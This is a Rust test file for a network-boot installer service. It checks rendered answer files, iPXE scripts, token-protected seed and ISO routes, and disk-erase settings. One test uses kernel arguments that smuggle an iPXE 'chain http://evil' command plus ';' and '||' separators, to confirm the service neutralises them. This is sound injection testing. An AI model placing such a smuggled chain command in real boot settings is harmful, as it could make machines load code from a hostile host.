//! Answer files of installers: the example templates of the documentation, rendered; scripts and files over HTTP, and who gets them.

use std::{collections::BTreeMap, sync::Arc};

use axum::{
    Router,
    body::Body,
    http::{Request, StatusCode, header},
};
use http_body_util::BodyExt;
use model::{
    agent::TaskKind,
    boot::{BootSession, InstallSpec},
    secret::Sealed,
    template::{Erase, ImageRef, InstallMethod, NamedImage, OsInstall, ReadySignal, TextFile},
};
use netboot::{
    http::{HttpConfig, HttpState, router, task},
    installer::InstallerContext,
    memory::{Event, MemorySite},
    render::SeedContext,
};
use serde_json::json;
use tower::ServiceExt;

const MAC: &str = "52:54:00:00:00:01";
const SCRIPT: &str = "/boot/52-54-00-00-00-01/script.ipxe";
const BASE: &str = "http://site:8090";

fn token() -> String {
    "a".repeat(64)
}

fn image(n: u8) -> ImageRef {
    ImageRef { sha256: format!("{n:064x}"), size: 10, format: String::new(), url: None }
}

fn named(name: &str, n: u8) -> NamedImage {
    NamedImage { name: name.into(), image: image(n) }
}

fn text(text: &str) -> TextFile {
    TextFile { text: text.into(), template: true, path: String::new() }
}

fn session(method: InstallMethod, files: &[(&str, &str)]) -> BootSession {
    let variables = json!({
        "repository": "http://mirror/rhel 9/os", "share": "\\\\files\\win", "share_user": "setup", "variables": "forged",
        "iso_url": "http://mirror/ubuntu.iso",
    });
    let install = InstallSpec {
        instance_id: 7,
        hostname: "web-1".into(),
        os: OsInstall {
            template_id: 1,
            name: "An OS".into(),
            os_name: "OS".into(),
            os_version: "1".into(),
            image: image(1),
            user_data: None,
            meta_data: None,
            method,
            files: files.iter().map(|(name, t)| ((*name).to_owned(), text(t))).collect(),
            ready: ReadySignal::PowerOff,
            erase: None,
            local_disk_only: false,
        },
        username: "admin".into(),
        password: Sealed("p<&'\"ss".into()),
        ssh_keys: vec!["ssh-ed25519 AAAA o'neil \"me\"".into()],
        network_config: json!({"version": 2, "ethernets": {"nic0": {
            "match": {"macaddress": MAC}, "addresses": ["10.0.1.10/24"], "routes": [{"to": "default", "via": "10.0.1.1"}],
            "nameservers": {"addresses": ["10.0.0.53"]},
        }}}),
        variables: variables.as_object().unwrap().clone(),
        secrets: [
            ("share_password".to_owned(), Sealed("100% & more".into())),
            ("product_key".to_owned(), Sealed("K<1>".into())),
        ]
        .into(),
        storage: model::storage::InstanceStorage::default(),
    };
    BootSession {
        job_id: 5,
        server_id: 1,
        macs: vec![MAC.into()],
        task: TaskKind::Install,
        install: Some(install),
        clean: None,
        token: token(),
    }
}

fn rendered(session: &BootSession, name: &str) -> String {
    let install = session.install.as_ref().unwrap();
    let secrets: BTreeMap<String, String> = install.secrets.iter().map(|(k, v)| (k.clone(), v.0.clone())).collect();
    let seed = SeedContext { session, install, password_hash: "$6$salt$hash", secrets: &secrets, http_base: BASE };
    InstallerContext { seed, password: &install.password.0 }.file(name).unwrap().unwrap()
}

/// The examples of the documentation. `UPDATE_GOLDEN=1` writes what they give now.
#[test]
fn the_examples_of_the_documentation() {
    let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/golden");
    macro_rules! example {
        ($name:literal) => {
            ($name, include_str!(concat!("../../../../docs/src/reference/os-templates/", $name)))
        };
    }
    for (name, source) in [
        example!("debian-preseed.cfg"),
        example!("ubuntu-autoinstall.yaml"),
        example!("rhel-kickstart.cfg"),
        example!("windows-unattend.xml"),
        example!("windows-startnet.cmd"),
        example!("esxi-ks.cfg"),
    ] {
        let text = rendered(&session(InstallMethod::Image, &[(name, source)]), name);
        let golden = folder.join(name);
        if std::env::var_os("UPDATE_GOLDEN").is_some() {
            std::fs::write(&golden, &text).unwrap();
        }
        let known = std::fs::read_to_string(&golden).unwrap_or_default();
        assert_eq!(text, known, "{name}: if the change is meant, run with UPDATE_GOLDEN=1");
    }
}

struct Site {
    memory: Arc<MemorySite>,
    router: Router,
    dir: tempfile::TempDir,
}

impl Site {
    fn new(session: BootSession) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let memory = Arc::new(MemorySite::new([]));
        memory.add_session(session);
        let config = HttpConfig {
            http_base: BASE.into(),
            agent_base: "https://site:8491".into(),
            agent_pin: "cd".repeat(32),
            boot_dir: dir.path().join("boot"),
            images_dir: dir.path().join("images"),
            kernel_arguments: "console=ttyS0".into(),
        };
        let state = HttpState { config: Arc::new(config), directory: memory.clone(), events: memory.clone() };
        Self { memory, router: router(state), dir }
    }

    async fn send(&self, request: Request<Body>) -> (StatusCode, String) {
        let response = self.router.clone().oneshot(request).await.unwrap();
        let (parts, body) = response.into_parts();
        (parts.status, String::from_utf8(body.collect().await.unwrap().to_bytes().to_vec()).unwrap())
    }

    async fn get(&self, path: &str) -> (StatusCode, String) {
        self.send(Request::get(path).body(Body::empty()).unwrap()).await
    }
}

#[tokio::test]
async fn an_installer_is_booted_with_its_arguments_and_reads_its_files() {
    let method = InstallMethod::Network {
        initrds: vec![named("initrd.gz", 2), named("firmware initrd;x", 3)],
        arguments: "auto=true\nurl={{ seed_url }}preseed.cfg ; chain http://evil || ${net0/mac} ---".into(),
    };
    let site = Site::new(session(method, &[("preseed.cfg", "hello {{ hostname }} {{ password_clear }}")]));
    let (status, script) = site.get(SCRIPT).await;
    let (a, b, c) = (image(1).sha256, image(2).sha256, image(3).sha256);
    let expected = format!(
        "#!ipxe\nkernel --name vmlinuz {BASE}/images/{a} initrd=initrd.gz initrd=firmware_initrd_x auto=true url={BASE}/seed/{t}/preseed.cfg chain http://evil $_{{net0/mac}} ---\ninitrd --name initrd.gz {BASE}/images/{b} initrd.gz\ninitrd --name firmware_initrd_x {BASE}/images/{c} firmware_initrd_x\nboot\n",
        t = token(),
    );
    assert_eq!((status, script), (StatusCode::OK, expected));
    assert!(site.memory.events().is_empty());
    let (status, answers) = site.get(&format!("/seed/{}/preseed.cfg", token())).await;
    assert_eq!((status, answers.as_str()), (StatusCode::OK, "hello web-1 p<&'\"ss\n"));
    assert_eq!(site.memory.events(), [Event::SeedRead(5, "preseed.cfg".into())]);
    assert!(site.get(&format!("/seed/{}/user-data", token())).await.1.contains("#cloud-config"));
    let (status, words) = site.get(&format!("/seed/{}/ks.cfg", token())).await;
    assert_eq!((status, words.contains("preseed.cfg")), (StatusCode::NOT_FOUND, true), "{words}");
    let stranger = "b".repeat(64);
    for path in [format!("/seed/{stranger}/preseed.cfg"), format!("/media/{stranger}/install.iso")] {
        assert_eq!(site.get(&path).await.0, StatusCode::UNAUTHORIZED, "{path}");
    }
    for (path, status) in [(format!("/ready/{}", token()), 204), (format!("/ready/{stranger}"), 401)] {
        let answer = site.send(Request::post(&path).body(Body::empty()).unwrap()).await;
        assert_eq!(answer.0.as_u16(), status, "{path}");
    }
    assert_eq!(site.memory.events().iter().filter(|e| matches!(e, Event::PhoneHome(5, _))).count(), 1);
}

#[tokio::test]
async fn windows_pe_gets_its_files_in_memory() {
    let method = InstallMethod::Network {
        initrds: vec![named("BCD", 2), named("boot.sdi", 3), named("boot.wim", 4)],
        arguments: String::new(),
    };
    let site = Site::new(session(method, &[("startnet.cmd", "wpeinit"), ("unattend.xml", "<unattend/>")]));
    let (_, script) = site.get(SCRIPT).await;
    let lines: Vec<&str> = script.lines().collect();
    assert_eq!(lines[1], format!("kernel --name wimboot {BASE}/images/{}", image(1).sha256));
    assert_eq!(lines[2], format!("initrd --name BCD {BASE}/images/{} BCD", image(2).sha256));
    assert_eq!(lines[5], format!("initrd --name startnet.cmd {BASE}/seed/{}/startnet.cmd startnet.cmd", token()));
    assert_eq!(lines.len(), 8, "{script}");
}

#[tokio::test]
async fn a_medium_is_served_under_the_token_alone() {
    let method = InstallMethod::Media { rebuild: false, components: Vec::new() };
    let session = session(method, &[]);
    let site = Site::new(session.clone());
    assert_eq!(site.get(SCRIPT).await.1, "#!ipxe\nexit 0\n", "the firmware goes on to the virtual drive");
    let path = format!("/media/{}/install.iso", token());
    assert_eq!(site.get(&path).await.0, StatusCode::NOT_FOUND, "there is none yet");
    let file = site.dir.path().join("5.iso");
    std::fs::write(&file, "0123456789").unwrap();
    site.memory.set_medium(file);
    assert_eq!(site.get(&path).await, (StatusCode::OK, "0123456789".into()));
    let part = Request::get(&path).header(header::RANGE, "bytes=2-4").body(Body::empty()).unwrap();
    assert_eq!(site.send(part).await, (StatusCode::PARTIAL_CONTENT, "234".into()));
    // The agent is told nothing that erases disks.
    assert_eq!(task(&session, BASE, BASE, None).task, TaskKind::Wait);
}

#[test]
fn an_image_erases_what_the_template_says() {
    let mut session = session(InstallMethod::Image, &[]);
    for (erase, word) in [(None, "all"), (Some(Erase::First), "first"), (Some(Erase::All), "all")] {
        session.install.as_mut().unwrap().os.erase = erase;
        let steps = serde_json::to_value(task(&session, BASE, BASE, None).steps).unwrap();
        assert_eq!(steps[1]["disks"], word);
    }
}

#[test]
fn what_is_missing_is_said_with_the_files_name() {
    let session = session(InstallMethod::Image, &[("ks.cfg", "a\n{{ nothing }}")]);
    let install = session.install.as_ref().unwrap();
    let seed =
        SeedContext { session: &session, install, password_hash: "", secrets: &BTreeMap::new(), http_base: BASE };
    let error = InstallerContext { seed, password: "" }.file("ks.cfg").unwrap().unwrap_err().to_string();
    assert!(error.starts_with("ks.cfg of OS template \"An OS\": not defined in line 2: nothing"), "{error}");
}
